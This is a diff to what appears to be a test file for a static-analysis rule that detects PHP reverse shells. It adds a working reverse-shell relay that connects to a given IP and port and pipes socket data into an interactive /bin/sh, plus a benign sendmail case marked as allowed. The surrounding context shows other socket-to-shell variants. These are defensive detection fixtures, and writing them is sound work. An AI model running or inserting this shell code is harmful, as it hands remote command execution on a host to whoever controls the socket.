@@ -3,9 +3,10 @@
 // RULEID: fsockopen + proc_open with the socket as descriptors; @fsockopen + exec of `sh -i <&3`;
 //   stream_socket_client + fgets loop into shell_exec; socket_create + socket_read into system;
 //   a bind shell (stream_socket_accept) evaluating what it reads; socket_recv into passthru;
-//   proc_open with descriptors array in long form.
+//   proc_open with descriptors array in long form; a socket-to-stdin-pipe relay (pentestmonkey shape).
 // OK: an SMTP client reading replies; proc_open with pipes (not the socket); a command run after a
-//   socket read that is not executed; a health check opening a socket then running a fixed command.
+//   socket read that is not executed; a health check opening a socket then running a fixed command;
+//   a mail body (not socket data) written into sendmail's stdin pipe.
 
 function connect_back($host, $port)
 {
@@ -66,6 +67,32 @@ function long_form($h)
     $spec = array(0 => $fp, 1 => $fp, 2 => $fp);
     // ruleid: php-reverse-shell
     proc_open("cmd.exe", array(0 => $fp, 1 => $fp, 2 => $fp), $p);
+}
+
+function relay($ip, $port)
+{
+    $shell = 'uname -a; id; /bin/sh -i';
+    $sock = fsockopen($ip, $port, $errno, $errstr, 30);
+    $spec = array(0 => array("pipe", "r"), 1 => array("pipe", "w"), 2 => array("pipe", "w"));
+    $process = proc_open($shell, $spec, $pipes);
+    stream_set_blocking($sock, 0);
+    while (!feof($sock)) {
+        $input = fread($sock, 1400);
+        // ruleid: php-reverse-shell
+        fwrite($pipes[0], $input);
+        $output = fread($pipes[1], 1400);
+        fwrite($sock, $output);
+    }
+}
+
+function mailer_pipe($host, $body)
+{
+    $smtp = fsockopen($host, 25);
+    $reply = fgets($smtp, 515);
+    $proc = proc_open('/usr/sbin/sendmail -t', [0 => ['pipe', 'r']], $pipes);
+    // ok: php-reverse-shell
+    fwrite($pipes[0], $body);
+    return $reply;
 }
 
 function smtp_hello($host)
